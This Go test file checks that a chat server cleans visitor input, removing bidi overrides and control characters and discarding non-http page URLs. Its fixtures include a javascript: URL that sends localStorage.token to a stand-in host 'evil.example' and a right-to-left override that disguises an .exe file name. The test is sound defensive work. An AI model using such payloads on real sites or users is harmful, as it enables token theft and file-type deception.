package server

import (
	"testing"

	"github.com/chatdesk/chatdesk/internal/chat"
	"github.com/chatdesk/chatdesk/internal/clienttest"
)

// TestVisitorTextIsCleaned: what a visitor sends is stored without bidi
// overrides or control characters, and only http(s) page addresses are
// kept (issue #16, findings 8b and 8d).
func TestVisitorTextIsCleaned(t *testing.T) {
	n := startNode(t)
	anTok, _ := n.login("an@chatdesk.local")
	var out clienttest.Created
	st := n.do("POST", "/api/conversations", "", map[string]any{
		"fields":   map[string]any{"name": "Lan\u202e nàm\x00", "phone": "0912 000 701", "message": "Xin chào\u2066\x1b[31m shop"},
		"pageUrl":  "javascript:fetch('//evil.example/?'+localStorage.token)",
		"referrer": "https://google.com.vn/search?q=ao",
	}, &out)
	if st != 201 {
		t.Fatalf("create: %d", st)
	}
	id := out.Conversation.ID
	var got struct{ Conversation *chat.Conversation }
	n.do("GET", "/api/conversations/"+id, anTok, nil, &got)
	v := got.Conversation.Visitor
	if v.Name != "Lan nàm" || v.PageURL != "" || v.Referrer != "https://google.com.vn/search?q=ao" {
		t.Fatalf("visitor %+v", v)
	}
	if st := n.do("POST", "/api/conversations/"+id+"/messages", out.VisitorToken, map[string]any{"text": "bao\u202egnp.exe\r\nxem giúp", "clientId": "c-1"}, nil); st != 201 {
		t.Fatalf("send: %d", st)
	}
	var texts []string
	for _, m := range n.messages(anTok, id, 0) {
		texts = append(texts, m.Text)
	}
	if len(texts) != 2 || texts[0] != "Xin chào[31m shop" || texts[1] != "baognp.exe\nxem giúp" {
		t.Fatalf("messages %q", texts)
	}
	// An agent name is refused rather than rewritten.
	admin, _ := n.login("admin@chatdesk.local")
	var e clienttest.ErrorAnswer
	if st := n.do("POST", "/api/admin/agents", admin, map[string]any{"email": "chi@chatdesk.local", "name": "Chi\u202e", "role": "agent", "password": "matkhau123"}, &e); st != 400 || e.Error.Fields["name"] == "" {
		t.Fatalf("agent with a bidi override in the name: %d %+v", st, e.Error)
	}
}
